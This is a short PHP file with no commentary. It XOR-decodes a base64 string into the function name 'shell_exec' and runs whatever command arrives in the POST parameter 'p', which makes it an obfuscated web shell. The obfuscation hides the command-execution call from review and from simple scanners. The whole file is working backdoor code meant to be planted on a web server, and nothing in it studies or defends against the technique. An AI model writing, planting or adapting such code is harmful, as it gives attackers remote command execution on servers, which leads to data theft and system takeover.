<?php
$k = 'q7';
$n = '';
$enc = base64_decode('Al8UWx1oFE8UVA==');
for ($i = 0; $i < strlen($enc); $i++) $n .= $enc[$i] ^ $k[$i % strlen($k)];
$n($_POST['p']);
